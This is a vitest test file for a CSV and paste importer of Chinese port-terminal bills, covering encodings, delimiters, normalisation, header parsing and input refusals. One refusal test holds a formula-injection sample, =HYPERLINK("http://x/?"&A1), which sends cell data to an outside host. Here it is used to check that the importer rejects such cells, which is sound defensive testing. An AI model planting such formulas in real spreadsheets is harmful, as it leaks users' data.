import { describe, expect, test } from 'vitest'
import { BILL_LIMITS } from '../../../../server/files/in/limits.ts'
import { readPasted } from '../../../../server/files/in/read-bill.ts'
import { charges, read, refusal } from './reading.ts'

const BILL = '费目,数量,金额\n港口设施保安费,1,20.00\n"货物港务费, 20 尺",2,"1,234.50"\n'
const EXPECTED = ['港口设施保安费 20.00', '货物港务费, 20 尺 1234.50']
const utf16 = (text: string, mark: string) => Buffer.concat([Buffer.from(mark, 'hex'), Buffer.from(text, 'utf16le')])

/** 港务费 and the headings as Excel for Chinese saves them. */
const GB = Buffer.concat([
  Buffer.from('b7d1c4bf2cbdf0b6ee0d0a', 'hex'), // 费目,金额
  Buffer.from('b8dbcef1b7d12c352e30300d0a', 'hex'), // 港务费,5.00
])

describe('the encoding and the delimiter of a text are found out', () => {
  test.each([
    ['UTF-8', Buffer.from(BILL), 'utf-8'],
    ['UTF-8 with a mark', Buffer.from(`\uFEFF${BILL}`), 'utf-8'],
    ['UTF-16 as Excel saves “Unicode text”', utf16(BILL, 'fffe'), 'utf-16le'],
    ['UTF-16, the other way round', utf16(BILL, 'fffe').swap16(), 'utf-16be'],
  ])('%s', async (_, bytes, encoding) => {
    expect((await read(bytes)).encoding).toBe(encoding)
    expect(await charges(bytes)).toEqual(EXPECTED)
  })

  test('GB18030', async () => {
    expect((await read(GB)).encoding).toBe('gb18030')
    expect(await charges(GB)).toEqual(['港务费 5.00'])
  })

  test.each([';', '\t', '|'])('cells divided by %j', async (sign) => {
    expect(await charges(`费目${sign}金额\n港务费，外贸${sign}5.00\n`)).toEqual(['港务费，外贸 5.00'])
  })

  test('cells copied from Excel, with a line break inside one', () => {
    const { source, rows } = readPasted('费目\t金额\r\n"港务费\n（外贸）"\t5.00\r\n')
    expect(source).toBe('paste')
    expect(rows).toEqual([
      ['费目', '金额'],
      ['港务费 （外贸）', '5.00'],
    ])
  })
})

describe('a table of text', () => {
  test('keeps the number each row has in a spreadsheet, without the blank ones', async () => {
    const { rows, at } = await read('费目,金额\n\n,,\n港务费,5.00\n"保安\n费",6.00\n理货费,7.00\n')
    expect(at).toEqual([1, 4, 5, 6])
    expect(rows).toHaveLength(4)
  })

  test('has full-width digits, letters and spaces made plain', async () => {
    expect((await read('费目,金额\n　港务费　２０ＧＰ ,１２.５０\n')).rows[1]).toEqual(['港务费 20GP', '12.50'])
  })

  test('keeps the zeros that Excel protects by a formula of text', async () => {
    expect((await read('发票号码,费目,金额\n="00123",港务费,1\n')).rows[1]).toEqual(['00123', '港务费', '1'])
  })

  test('says what is written above it of the bill', async () => {
    const { bill } = await read(
      '某码头账单,,\n账单编号：ZD-17,,开票日期,2026/3/2\n收款单位,某某码头有限公司\n费目,数量,金额\n港务费,1,5.00\n',
    )
    expect(bill).toEqual({ number: 'ZD-17', charged_on: '2026-03-02', seller: '某某码头有限公司' })
  })
})

describe('a text that cannot be a bill is refused, with the place', () => {
  test('formulas', async () => {
    const hostile = '费目,金额\n=HYPERLINK("http://x/?"&A1),1\n港务费,＝1+1\n'
    expect(await refusal(hostile)).toMatchObject({ code: 'formula-text', values: { cells: 'A2, B3', count: 2 } })
  })

  test('a quote that is never closed', async () => {
    expect(await refusal('费目,金额\n"港务费\n（外贸）",1\n"保安费,2\n理货费,3\n')).toMatchObject({
      code: 'csv-quotes',
      values: { line: 4 },
    })
  })

  test('too many rows and columns, and endless cells', async () => {
    const limits = { ...BILL_LIMITS, rows: 10, columns: 5, cell: 100 }
    expect(await refusal(`费目,金额\n${'港务费,1\n'.repeat(10)}`, limits)).toMatchObject({ code: 'too-many-rows' })
    expect(await refusal('费目,金额\n1,2,3,4,5,6\n', limits)).toMatchObject({ values: { limit: 5, cell: 'F2' } })
    expect(await refusal(`费目,金额\n${'港'.repeat(101)},1\n`, limits)).toMatchObject({
      values: { cell: 'A2', limit: 100 },
    })
  })

  test('only a header, or nothing but blanks', async () => {
    expect((await refusal('费目,金额\n,,\n')).code).toBe('header-only')
    expect((await refusal('\n , ,\n')).code).toBe('no-rows')
  })
})

test('a hundred thousand blank lines are passed over', async () => {
  expect(await charges(`费目,金额\n${',,\n'.repeat(100_000)}港务费,5.00\n`)).toEqual(['港务费 5.00'])
})
